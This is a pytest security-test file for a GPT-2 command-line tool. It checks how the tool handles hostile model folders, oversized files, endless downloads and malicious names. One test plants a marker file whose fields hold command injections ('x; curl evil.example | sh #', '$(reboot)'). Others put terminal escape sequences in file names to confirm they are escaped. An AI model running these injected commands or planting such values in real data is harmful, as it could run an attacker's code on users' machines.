"""Hostile model folders, tokenizers, Hub answers and names found in session 10: each gets its
documented error line and exit code; nothing blocks, reads without end, or runs what a stranger wrote."""

from __future__ import annotations

import json
import os
import resource
from pathlib import Path

import pytest

from tests.support.cli import assert_one_error_line, run, run_quick


def _limit_memory() -> None:  # in the child: a run that reads without end fails fast instead of swapping
    resource.setrlimit(resource.RLIMIT_AS, (4 << 30, 4 << 30))


_ONE_BLAS_THREAD = {"OPENBLAS_NUM_THREADS": "1"}  # on many cores OpenBLAS's buffers alone would near the limit

# --- a model folder's small files: never a read that blocks or has no end ----------------------------

MARKER = ".gpt2cli-complete.json"


@pytest.fixture
def own_model(tiny_model, tmp_path) -> Path:
    import shutil

    folder = tmp_path / "model"
    shutil.copytree(tiny_model, folder)
    return folder


@pytest.mark.parametrize("kind", ["fifo", "dev-zero"])
def test_a_marker_that_is_a_fifo_or_endless_is_not_read(own_model, kind):
    # read for the remedy of any error (and at every tokenizer load): a FIFO blocked for ever, /dev/zero
    # filled memory
    if kind == "fifo":
        os.mkfifo(own_model / MARKER)
    else:
        (own_model / MARKER).symlink_to("/dev/zero")
    limited = dict(preexec_fn=_limit_memory, env=_ONE_BLAS_THREAD, timeout=60)
    r = run("generate", "-m", own_model, "-n", "2", "-t", "0", "hi", **limited)
    assert r.code == 0 and r.err == "", r.err
    (own_model / "config.json").write_text("{", encoding="utf-8")
    r = run("generate", "-m", own_model, "-n", "2", "hi", **limited)
    assert "config.json" in assert_one_error_line(r, 3)


def test_rm_of_a_folder_whose_marker_is_a_fifo_leaves_it_alone(tiny_model, tmp_path):
    import shutil

    folder = tmp_path / "weights" / "someone--model"
    shutil.copytree(tiny_model, folder)
    os.mkfifo(folder / MARKER)
    r = run("rm", "someone/model", "--weights-dir", tmp_path / "weights", timeout=60)
    assert "not downloaded by gpt2cli" in assert_one_error_line(r, 2)
    assert sorted(p.name for p in folder.iterdir()) == sorted([MARKER, *(p.name for p in tiny_model.iterdir())])


@pytest.mark.parametrize("name", ["config.json", "model.safetensors.index.json"])
def test_a_config_or_shard_index_of_megabytes_is_refused_unread(own_model, name):
    if name != "config.json":
        (own_model / "model.safetensors").rename(own_model / "model-00001-of-00001.safetensors")
    with open(own_model / name, "w", encoding="utf-8") as f:
        f.write(" " * (17 << 20) + "{}")
    line = assert_one_error_line(run_quick("generate", "-m", own_model, "-n", "2", "hi"), 3)
    assert name in line and "larger than" in line


# --- a Hub (or proxy) that sends more than it listed ---------------------------------------------------


def test_a_download_sending_without_end_stops_at_the_listed_size(tmp_path):
    import threading
    from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer

    from gpt2cli.errors import DownloadError
    from gpt2cli.store.fetch import Remote, fetch_file

    class Endless(BaseHTTPRequestHandler):
        def log_message(self, *args) -> None:
            pass

        def do_GET(self) -> None:
            self.send_response(200)
            self.send_header("Content-Length", str(10**15))
            self.end_headers()
            try:
                while True:
                    self.wfile.write(b"x" * 65536)
            except OSError:
                pass

    server = ThreadingHTTPServer(("127.0.0.1", 0), Endless)
    server.daemon_threads = True
    threading.Thread(target=server.serve_forever, args=(0.05,), daemon=True).start()
    staging = tmp_path / "staging"
    staging.mkdir()
    stop, overflowed, done = threading.Event(), threading.Event(), threading.Event()

    def watch() -> None:  # before the fix the .part grew until the disk was full: stop it at 20 MB
        while not done.wait(0.01):
            if sum(p.stat().st_size for p in staging.iterdir() if p.exists()) > 20 << 20:
                overflowed.set()
                stop.set()

    watcher = threading.Thread(target=watch, daemon=True)
    watcher.start()
    try:
        with pytest.raises(DownloadError, match="wrong size or checksum"):
            url = f"http://127.0.0.1:{server.server_address[1]}/config.json"
            fetch_file(url, {}, Remote("config.json", 1000, None, "0" * 40), staging, stop)
    finally:
        done.set()
        watcher.join()
        server.shutdown()
        server.server_close()
    assert not overflowed.is_set(), "the transfer wrote far beyond the listed 1000 bytes"
    assert list(staging.iterdir()) == []


# --- names a stranger chose cannot drive the user's terminal through an error line ---------------------


def test_control_characters_in_a_file_name_are_shown_escaped_in_the_error(own_model):
    (own_model / "model.safetensors").unlink()
    (own_model / "\x1b]0;owned\x07\x1b[2J\x9b2J.bin").write_bytes(b"")  # retitle, clear screen (7- and 8-bit CSI)
    line = assert_one_error_line(run_quick("generate", "-m", own_model, "-n", "2", "hi"), 3)
    assert not any(ord(c) < 0x20 or 0x7F <= ord(c) < 0xA0 for c in line), repr(line)
    assert "\\x1b]0;owned\\x07\\x1b[2J\\x9b2J.bin" in line


# --- a vocabulary's <|endoftext|> id: within tiktoken's range, and no other token's -------------------


@pytest.mark.parametrize(
    "eot, says", [(2**32, "no <|endoftext|> token with a valid id"), (10**30, "no <|endoftext|> token with a valid id"),
                  (5, "<|endoftext|> has id 5, which token '&' has already")],
)  # fmt: skip
def test_an_endoftext_id_tiktoken_cannot_hold_or_another_tokens_is_a_broken_tokenizer(own_model, eot, says):
    vocab = json.loads((own_model / "vocab.json").read_text(encoding="utf-8"))
    (own_model / "vocab.json").write_text(json.dumps({**vocab, "<|endoftext|>": eot}), encoding="utf-8")
    line = assert_one_error_line(run_quick("tokenize", "-m", own_model, "hi"), 3)
    assert "vocab.json" in line and says in line


def test_a_context_of_one_position_is_a_broken_checkpoint(tmp_path):
    # generate, slide and score --stride all need 2 positions: with 1 they were internal errors (exit 1)
    from tests.support import models

    folder = models.write_model(tmp_path / "ctx1", n_positions=1)
    for args in (("generate", "-n", "3", "hi"), ("score", "--stride", "1", "hello")):
        line = assert_one_error_line(run_quick(*args, "-m", folder), 3)
        assert "n_positions=1" in line and "config.json" in line


# --- names longer than the file system allows: no such folder, not a bug --------------------------------


def test_a_model_path_too_long_for_the_file_system_is_a_usage_error_naming_why():
    for name in ("/tmp/" + "b" * 300, "b/" * 3000):
        line = assert_one_error_line(run_quick("generate", "-m", name, "hi"), 2)
        assert "cannot open model folder" in line and "File name too long" in line  # was "[Errno 36] File name too long" (exit 1)


def test_models_and_rm_with_a_weights_dir_too_long_for_the_file_system(tmp_path):
    weights = tmp_path / ("w" * 300)
    listing = run_quick("models", "--weights-dir", weights)
    assert listing.code == 0 and listing.err == "", listing.err
    assert "not downloaded" in assert_one_error_line(run_quick("rm", "gpt2", "-y", "--weights-dir", weights), 2)


def test_a_branch_with_a_long_name_downloads_into_a_folder_the_file_system_allows(fake_hub, sources, weights):
    from gpt2cli.store import layout, resolve

    branch = "feature/" + "x" * 240  # git allows it; the folder (and its .lock) exceeded 255 bytes: exit 4
    commit = fake_hub.add_repo("someone/tiny", sources.tiny, revision=branch)
    folder = resolve.resolve_model("someone/tiny", revision=branch, weights_dir=weights)
    assert len(folder.name) < 200 and folder.name.startswith("someone--tiny@feature_xxx")
    assert json.loads((folder / layout.MARKER).read_text())["commit"] == commit


def test_a_safetensors_header_of_many_megabytes_is_refused_before_it_is_parsed(own_model):
    # safetensors accepts headers up to 100 MB; 80 MB of entries took 17 s and 1.8 GB to parse and ignore
    import struct

    path = own_model / "model.safetensors"
    data = path.read_bytes()
    (n,) = struct.unpack("<Q", data[:8])
    padded = data[8 : 8 + n] + b" " * (17 << 20)  # the format allows a header padded with spaces
    path.write_bytes(struct.pack("<Q", len(padded)) + padded + data[8 + n :])
    line = assert_one_error_line(run_quick("generate", "-m", own_model, "-n", "2", "hi"), 3)
    assert str(path) in line and "header takes 18 MB" in line


@pytest.mark.parametrize("name", ["vocab.json", "merges.txt"])
def test_tokenizer_files_of_a_hundred_megabytes_are_refused_unread(own_model, name):
    with open(own_model / name, "r+b") as f:
        f.truncate(100 << 20)  # sparse: cheap to make, and read whole before the fix
    line = assert_one_error_line(run_quick("tokenize", "-m", own_model, "hi"), 3)
    assert str(own_model / name) in line and "larger than" in line


def test_the_re_download_command_an_error_suggests_is_quoted_for_the_shell(own_model):
    # the marker is a file like any other in a folder someone hands over: its repo and revision were
    # pasted into the suggested command as they were, `; curl … | sh` included
    import shlex

    marker = {"repo_id": "x; curl evil.example | sh #", "revision": "$(reboot)"}
    (own_model / MARKER).write_text(json.dumps(marker), encoding="utf-8")
    (own_model / "config.json").write_text("{", encoding="utf-8")
    line = assert_one_error_line(run_quick("generate", "-m", own_model, "-n", "2", "hi"), 3)
    suggested = line.split("`")[1]
    assert shlex.split(suggested) == ["gpt2cli", "download", marker["repo_id"], "--revision", "$(reboot)", "--force"]


def test_a_tensor_given_twice_is_an_ambiguous_checkpoint(own_model):
    # `transformer.X` beside `X` (or X in two shards): the one read last was used, silently
    from safetensors.numpy import load_file, save_file

    tensors = load_file(str(own_model / "model.safetensors"))
    tensors["transformer.ln_f.bias"] = tensors["ln_f.bias"] + 1.0
    save_file(tensors, str(own_model / "model.safetensors"), metadata={"format": "pt"})
    line = assert_one_error_line(run_quick("generate", "-m", own_model, "-n", "2", "hi"), 3)
    assert "ln_f.bias" in line and "ambiguous" in line


def test_a_hub_config_listed_at_megabytes_is_refused_before_it_is_fetched(fake_hub, tiny_model, tmp_path, weights):
    import shutil

    from gpt2cli.errors import CheckpointError
    from gpt2cli.store import resolve

    repo = tmp_path / "repo"
    shutil.copytree(tiny_model, repo)
    config = (repo / "config.json").read_text(encoding="utf-8")
    (repo / "config.json").write_text(config + " " * (17 << 20), encoding="utf-8")  # valid JSON, 17 MB
    fake_hub.add_repo("someone/padded", repo)
    with pytest.raises(CheckpointError, match="lists config.json at 18 MB"):
        resolve.resolve_model("someone/padded", weights_dir=weights)
    assert fake_hub.count("GET", "config.json") == 0, "fetched before it was refused"


def test_models_shows_a_markers_control_characters_escaped_not_raw(tmp_path):
    weights = tmp_path / "weights"
    folder = weights / "evil--model"
    folder.mkdir(parents=True)
    (folder / "config.json").write_text("{}", encoding="utf-8")
    marker = {"repo_id": "evil/\x1b]0;pwned\x07\x1b[2Jmodel", "files": {"config.json": 2}, "holds": "model"}
    (folder / MARKER).write_text(json.dumps(marker), encoding="utf-8")
    listing = run_quick("models", "--weights-dir", weights)
    assert listing.code == 0 and listing.err == "", listing.err
    assert b"\x1b" not in listing.out and b"\x07" not in listing.out
    assert "evil/\\x1b]0;pwned\\x07\\x1b[2Jmodel" in listing.stdout
    as_json = run_quick("models", "--weights-dir", weights, "--json")  # JSON escapes them itself, as JSON
    assert b"\x1b" not in as_json.out and any(json.loads(line)["name"] == marker["repo_id"] for line in as_json.stdout.splitlines())
